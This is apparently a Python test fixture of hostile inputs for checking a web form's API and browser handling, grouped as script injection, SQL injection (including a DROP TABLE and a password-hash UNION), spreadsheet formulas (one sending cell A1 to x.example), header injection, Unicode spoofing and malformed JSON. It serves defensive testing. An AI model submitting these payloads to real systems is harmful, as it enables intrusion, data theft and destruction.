"""Hostile input, grouped by the attack; sent through the API and through the browser."""

import json
from typing import Any

#: Scripts that a browser would run if they were not shown as plain text; each leaves a mark when it runs.
MARKUP = {
    "script": "<script>window.broken_in=1</script>",
    "closing": "\"'></textarea></title></style></script><script>window.broken_in=1</script>",
    "image": '<img src=x onerror="window.broken_in=1">',
    "drawing": "<svg/onload=window.broken_in=1><animate onbegin=window.broken_in=1 attributeName=x>",
    "address": "javascript:window.broken_in=1//https://x.example",
    "frame": "<iframe srcdoc='<script>parent.broken_in=1</script>'></iframe>",
    "template": "{{constructor.constructor('window.broken_in=1')()}}${window.broken_in=1}<%=1%>#{1}",
    "comment": "<!--><script>window.broken_in=1</script>-->",
    "style": "<style>*{background:url(https://x.example/leak)}</style><link rel=stylesheet href=//x.example>",
    "data": "]]>&lt;script&gt;&#60;script&#62;\\u003cscript\\u003ewindow.broken_in=1",
    "beacon": "<img src=https://x.example/leak><meta http-equiv=refresh content='0;url=https://x.example'>",
}
SQL = {
    "always true": "' OR '1'='1' --",
    "second statement": "x'); DROP TABLE quote_requests; --",
    "union": "' UNION SELECT password_hash, email, 1 FROM users --",
    "wildcards": "%_*\\%",
    "dollar quotes": "$$; SELECT pg_sleep(9); $$ ' || randomblob(1000000000) || '",
    "placeholders": "%s %(name)s :name ?1 $1 {0}",
}
FORMULAS = {
    "equals": '=HYPERLINK("https://x.example?leak="&A1,"klik")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "behind a space": " =1+1",
    "behind a tab": "x\t=1+1",
    "wide": "\uff1d1+1",
    "new cell": 'x";=1+1;"\r\n=1+1;',
}
CONTROL = {
    "bell and escape": "\x07\x1b[31mrood\x1b]0;titel\x07",
    "backspaces": "goed\x08\x08\x08\x08fout",
    "delete and c1": "\x7f\x85\x9b31m",
    "line breaks": "een\rtwee\ntwee\r\ndrie\u2028vier\u2029vijf",
    "header": "Jan\r\nBcc: iedereen@example.org\r\nContent-Type: text/html\r\n\r\n<b>spam</b>",
    "log line": "x\n2026-01-01 00:00:00,000 INFO request=0 method=GET route=/ status=200 ms=0.1",
}
UNICODE = {
    "right to left": "\u202egnp.exe\u202c \u2066verborgen\u2069 \u05d0\u05d1\u05d2",
    "no width": "J\u200ba\u200cn\u200d\ufeff\u2060",
    "combining": "Z" + "\u0301\u0327\u0489" * 30 + "algo",
    "not normalised": "Amelie\u0301 \u212b \ufb01ets \u1e9b\u0323",
    "beyond the plane": "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3fd \U000e0041 \U0010ffff",
    "no character": "\ufffe\uffff\ufdd0",
    "letters that grow": "\u0130\u00df\u0149\u1fb7" * 10,
    "look-alike": "\u0430dmin \u0391nna \uff41\uff44\uff4d\uff49\uff4e",
    "only spaces": "\u00a0\u2003\u3000\u180e",
}
TEXTS: dict[str, str] = {**MARKUP, **SQL, **FORMULAS, **CONTROL, **UNICODE}

EMAILS = {
    "look-alike": "\u0430nna@example.org",
    "look-alike domain": "anna@ex\u0430mple.org",
    "header": "anna@example.org\r\nBcc: iedereen@example.org",
    "header inside": "anna\nBcc:x@example.org",
    "several": "anna@example.org,iedereen@example.org",
    "named": "Anna <anna@example.org>",
    "quoted": '"anna\r\nBcc: x"@example.org',
    "route": "@x.example:anna@example.org",
    "bare address": "anna@[127.0.0.1]",
    "no width": "an\u200bna@example.org",
    "long": "a" * 250 + "@example.org",
    "backtracking": "a." * 120 + "!@" + "a-" * 120,
}
#: Values in place of a text, a number, a list.
VALUES: dict[str, Any] = {
    "null": None,
    "true": True,
    "zero below zero": -0.0,
    "small": 5e-324,
    "large": 1.7e308,
    "31 bits": 2**31,
    "63 bits": 2**63,
    "400 digits": 10**400,
    "empty list": [],
    "list": ["x", 1, None],
    "object": {"$ne": None, "__proto__": {"x": 1}, "constructor": "x"},
    "empty": "",
    "long": "x" * 20_000,
    "broken pair": "\ud800x\udfff",
    "zero character": "a\x00b",
    "number in words": "NaN",
    "day": "0000-00-00",
    "far day": "9999-12-31T23:59:60-99:99",
    "other digits": "\u0661\u0662\u0663\u0664-\u0661\u0661-\u0661\u0661",
}
#: Whole bodies.
BODIES: dict[str, bytes] = {
    "nothing": b"",
    "no JSON": b"{'a': 1}",
    "cut off": b'{"email": "anna@exam',
    "not a number": b'{"email": NaN, "form_seconds": Infinity}',
    "too large a number": b'{"form_seconds": 1e400, "email": -1e400}',
    "too many digits": b'{"form_seconds": ' + b"9" * 5000 + b"}",
    "deep list": b"[" * 20_000 + b"]" * 20_000,
    "deep object": b'{"data":' * 8_000 + b"1" + b"}" * 8_000,
    "deep in a field": b'{"furniture_list": ' + b"[" * 900 + b"]" * 900 + b', "data": {}}',
    "half a pair": b'{"email": "\\ud800", "full_name": "\\udfff\\ud800"}',
    "zero character": b'{"email": "a\\u0000b", "\\u0000": 1}',
    "no UTF-8": b'{"email": "\xff\xfe\xc0\x80\xed\xa0\x80"}',
    "another coding": '{"email": "x"}'.encode("utf-16"),
    "mark in front": b"\xef\xbb\xbf{}",
    "twice the same": b'{"email": "a@example.org", "email": ["b"]}',
    "prototype": b'{"__proto__": {"is_admin": true}, "constructor": {"prototype": {}}, "role": "admin"}',
    "many fields": json.dumps({f"veld{number}": number for number in range(3000)}).encode(),
    "form": b"email=anna%40example.org&password=x",
    "word": b'"x"',
    "null": b"null",
    "list of nothing": b"[null, 1, []]",
}
